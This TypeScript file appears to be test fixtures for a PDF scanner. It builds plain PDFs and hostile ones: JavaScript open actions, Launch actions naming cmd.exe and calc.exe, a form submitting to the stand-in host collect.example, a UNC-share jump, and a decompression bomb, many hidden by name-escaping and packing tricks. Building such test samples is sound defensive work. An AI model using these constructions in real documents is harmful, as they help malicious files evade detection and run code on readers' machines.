// PDFs built byte by byte for tests: ordinary ones, and every way we know of hiding that one does something.
import { deflateSync } from 'node:zlib';

/** `objects`: the bodies of objects 1, 2, …; the first is the catalogue. */
export function makePdf(objects: Array<string | Buffer>, { trailer = '', version = '1.7' } = {}): Buffer {
  const parts: Buffer[] = [Buffer.from(`%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`, 'latin1')];
  const offsets: number[] = [];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  for (const [n, object] of objects.entries()) {
    offsets.push(length());
    parts.push(
      Buffer.concat([
        Buffer.from(`${n + 1} 0 obj\n`),
        Buffer.from(object as never, 'latin1'),
        Buffer.from('\nendobj\n'),
      ]),
    );
  }
  const at = length();
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  parts.push(
    Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R ${trailer}>>\n`),
    Buffer.from(`startxref\n${at}\n%%EOF\n`),
  );
  return Buffer.concat(parts);
}

export function stream(dictionary: string, data: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream'),
  ]);
}

const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>';
const content = stream(
  '/Filter /FlateDecode',
  deflateSync(Buffer.from('BT /F1 12 Tf 20 100 Td (Paid 20.00 USD) Tj ET')),
);
const body = (catalogue: string, ...more: Array<string | Buffer>) => [
  `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
  pages,
  page,
  content,
  ...more,
];

export const plainPdf = (): Buffer => makePdf(body(''));

/** Objects packed as newer writers pack them. */
function packed(
  inner: string,
  { dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', pack = deflateSync } = {},
) {
  return stream(dictionary, pack(Buffer.from(`5 0 ${inner}`, 'latin1')));
}

export const packedPdf = (): Buffer => makePdf(body('', packed('<< /Producer (a scanner) >>')));

const script = '/S /JavaScript /JS (app.alert\\(1\\))';
const hex = (text: string) => [...text].map((char) => `#${char.charCodeAt(0).toString(16)}`).join('');

/** Each of these does something, or may. */
export function activePdfs(): Record<string, Buffer> {
  const action = (inside: string) => makePdf(body(`/OpenAction << ${inside} >>`));
  const inObjects = (inside: string, how = {}) => makePdf(body('', packed(`<< ${inside} >>`, how)));
  return {
    'script when opened': action(script),
    'script without spaces': makePdf(body('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')),
    'script with one letter escaped': action(script.replace('/JavaScript', '/J#61vaScript')),
    'script with all letters escaped': action(script.replace('/JavaScript', `/${hex('JavaScript')}`)),
    'script with a NUL behind its name': action(script.replace('/JavaScript', '/JavaScript\0')),
    'script in the name tree': makePdf(body('/Names << /JavaScript << /Names [(x) 5 0 R] >> >>', `<< ${script} >>`)),
    'script on a page': makePdf(body('', `<< /AA << /O << ${script} >> >> >>`)),
    'script as a rendition': action('/S /Rendition /OP 0 /JS (app.alert\\(1\\))'),
    'script behind a comment': action(`% harmless\n${script}`),
    'script inside what looks like a stream': makePdf(body('', `(stream\n) ${script} (endstream)`)),
    'script in packed objects': inObjects(script),
    'script in packed objects, escaped': inObjects(script.replace('/JavaScript', '/JavaS#63ript')),
    'script in packed objects whose dictionary hides': makePdf(
      body(
        '',
        stream(
          '/Type /ObjStm /X (endobj) /N 1 /First 4 /Filter /FlateDecode',
          deflateSync(Buffer.from(`5 0 << ${script} >>`)),
        ),
      ),
    ),
    'script in packed objects of a nameless stream': makePdf(
      body('', stream('/Filter /FlateDecode', deflateSync(Buffer.from(`5 0 << ${script} >>`)))),
    ),
    'launching a program': action('/S /Launch /F (cmd.exe)'),
    'launching on Windows': action('/S /Launch /Win << /F (calc.exe) >>'),
    'a file within': makePdf(body('/Names << /EmbeddedFiles 5 0 R >>', '<< /Names [(a) 6 0 R] >>')),
    'a file within as a stream': makePdf(body('', stream('/Type /EmbeddedFile', Buffer.from('MZ')))),
    'a file within by an annotation': makePdf(
      body('', '<< /Subtype /FileAttachment /FS << /Type /Filespec /F (a) >> >>'),
    ),
    'a film': makePdf(body('', '<< /Subtype /RichMedia >>')),
    'an old film': makePdf(body('', '<< /Subtype /Movie >>')),
    'a form that sends': action('/S /SubmitForm /F (http://collect.example)'),
    'a form that reads files': action('/S /ImportData /F (x)'),
    'going to another file': action('/S /GoToR /F (\\\\\\\\host\\\\share)'),
    'going to a file within': action('/S /GoToE'),
    'a form in XML': makePdf(body('/AcroForm << /XFA 5 0 R >>', stream('', Buffer.from('<xdp/>')))),
    'packed launching': inObjects('/S /Launch /F (cmd.exe)'),
  };
}

/** Packed in ways that hide what is inside. */
export function unreadablePdfs(): Record<string, Buffer> {
  const inner = `5 0 << ${script} >>`;
  const asHex = (data: Buffer) => Buffer.from(`${data.toString('hex')}>`);
  const first = '/Type /ObjStm /N 1 /First 4';
  const packedAs = (filter: string, data: Buffer) => makePdf(body('', stream(`${first} /Filter ${filter}`, data)));
  return {
    'as hexadecimal digits': packedAs('/ASCIIHexDecode', asHex(Buffer.from(inner))),
    twice: packedAs('[/ASCIIHexDecode /FlateDecode]', asHex(deflateSync(Buffer.from(inner)))),
    'with an escaped filter': packedAs('/ASCIIHe#78Decode', asHex(Buffer.from(inner))),
    'with an escaped type': makePdf(
      body('', stream('/Type /Obj#53tm /N 1 /First 4 /Filter /ASCIIHexDecode', asHex(Buffer.from(inner)))),
    ),
    broken: packedAs('/FlateDecode', Buffer.from('not packed at all')),
    'as a bomb': packedAs(
      '/FlateDecode',
      deflateSync(Buffer.concat([Buffer.from('5 0 '), Buffer.alloc(60_000_000, 32)])),
    ),
  };
}

export function brokenPdfs(): Record<string, Buffer> {
  const whole = plainPdf();
  return {
    'only a header': Buffer.from('%PDF-1.7\n'),
    'half of it': whole.subarray(0, whole.length >> 1),
    'without its end': whole.subarray(0, whole.length - 8),
    'another file behind it': Buffer.concat([whole, Buffer.alloc(5000, 'PK\x03\x04')]),
    'text that says it is one': Buffer.from('%PDF-1.4 trust me'),
  };
}

export function encryptedPdfs(): Record<string, Buffer> {
  const lock = '<< /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -44 >>';
  return {
    'in the trailer': makePdf(body('', lock), { trailer: '/Encrypt 5 0 R ' }),
    escaped: makePdf(body('', lock), { trailer: '/Encr#79pt 5 0 R ' }),
    'in packed objects': makePdf(body('', packed('<< /Encrypt 6 0 R >>'))),
  };
}
